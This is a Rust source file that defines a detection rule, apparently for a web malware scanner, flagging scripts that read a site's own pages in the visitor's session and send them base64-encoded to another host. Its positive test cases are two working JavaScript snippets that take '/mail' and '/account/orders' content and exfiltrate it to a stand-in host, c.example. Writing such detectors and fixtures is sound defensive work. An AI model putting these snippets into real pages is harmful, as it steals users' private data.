//! `own-page-sent`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "own-page-sent",
    description: "The script fetches a page of this site in the visitor's session and sends its text in base64 to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::OwnPageSent])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "const up=(n,t)=>{const x=new XMLHttpRequest;x.open('POST','https://c.example/'+n);x.send(btoa(unescape(encodeURIComponent(t))))};const get=u=>new Promise(ok=>{const x=new XMLHttpRequest;x.open('GET',u);x.onload=()=>ok(x.responseText);x.send()});(async()=>{up('a',await get('/mail?box=1'))})()",
            "async function take(p){const r=await fetch(p);return r.text()}take('/account/orders').then(t=>{new Image().src='https://c.example/i?d='+encodeURIComponent(btoa(t))})",
        ],
        without: &[
            "fetch('/cart.js').then(r=>r.json()).then(cart=>fetch('https://app.example/c',{method:'POST',body:JSON.stringify(cart)}))",
            "fetch('/token').then(r=>r.text()).then(t=>fetch('https://api.example/me',{headers:{Authorization:'Bearer '+t}}))",
            "fetch('/logo.svg').then(r=>r.text()).then(t=>{img.src='data:image/svg+xml;base64,'+btoa(t)})",
        ],
    },
};
